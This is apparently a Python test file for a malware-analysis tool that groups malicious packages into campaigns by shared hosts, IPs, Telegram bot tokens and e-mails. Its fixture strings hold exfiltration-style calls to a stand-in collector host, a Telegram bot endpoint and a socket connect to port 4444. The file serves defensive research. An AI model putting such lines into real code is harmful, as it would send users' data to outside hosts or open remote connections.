"""Campaign grouping: packages sharing an operator's endpoint, token, e-mail or code are one campaign;
shared services and anything a benign package also has link nothing."""

from __future__ import annotations

from vetpy.lab.campaigns import campaign_keys, find_campaigns

TOKEN = "123456789:" + "a" * 35


def test_keys_name_operator_endpoints_not_shared_services() -> None:
    text = (
        "requests.post('https://evil-collector.xyz/api', data=d)\n"
        "requests.get('https://github.com/psf/requests')\n"  # well-known: no key
        "urlopen('https://pastebin.com/raw/abc123')\n"  # shared service: keyed by its path
        "urlopen('https://webhook.site')\n"  # a shared service with no path names no one
        f"requests.post('https://api.telegram.org/bot{TOKEN}/sendMessage')\n"
        "s.connect(('45.9.148.3', 4444)); s2.connect(('10.0.0.1', 1)); dns = '8.8.8.8'\n"
        "author_email='operator@proton.me'\n"
    )
    keys = campaign_keys(text)
    assert "host:evil-collector.xyz" in keys
    assert "url:pastebin.com/raw/abc123" in keys
    assert "ip:45.9.148.3" in keys
    assert f"endpoint:telegram_bot:{TOKEN}" in keys
    assert "email:operator@proton.me" in keys
    assert not any("github.com" in k or "10.0.0.1" in k or "8.8.8.8" in k for k in keys)
    assert "url:webhook.site/" not in keys and not any(k.startswith("host:webhook.site") for k in keys)


def test_connected_components_over_shared_keys() -> None:
    texts = [
        "post('https://a-collector.xyz/x')",  # 0 -- host --> 1
        "post('https://a-collector.xyz/y') author_email='x@proton.me'",  # 1 -- email --> 2
        "author_email='x@proton.me'",  # 2
        "post('https://b-collector.xyz/')",  # 3 alone
        "post('https://shared-cdn.example-cdn.net/lib.js')",  # 4 shares a host with a benign package
        "post('https://shared-cdn.example-cdn.net/lib.js')",  # 5 (benign)
        "post('https://shared-cdn.example-cdn.net/other.js')",  # 6 would join 4 if benign did not veto
        "nothing here",  # 7: near-duplicate of 3
    ]
    labels = [1, 1, 1, 1, 1, 0, 1, 1]
    dup = ["d0", "d1", "d2", "d3", "d4", "d5", "d6", "d3"]
    campaigns = find_campaigns(texts, labels, dup)
    ids = campaigns.ids
    assert ids[0] == ids[1] == ids[2]
    assert ids[3] == ids[7] != ids[0]
    assert ids[4] != ids[6]
    assert ids[5] is None
    assert campaigns.benign_keys_ignored == 1
    assert campaigns.sizes()[0] == 3


def test_dotted_digits_that_are_not_addresses_are_no_campaign_key() -> None:
    from vetpy.lab.campaigns import campaign_keys

    assert not [k for k in campaign_keys("version 0.2.00.3 and 1.2.3.4") if k == "ip:0.2.00.3"]
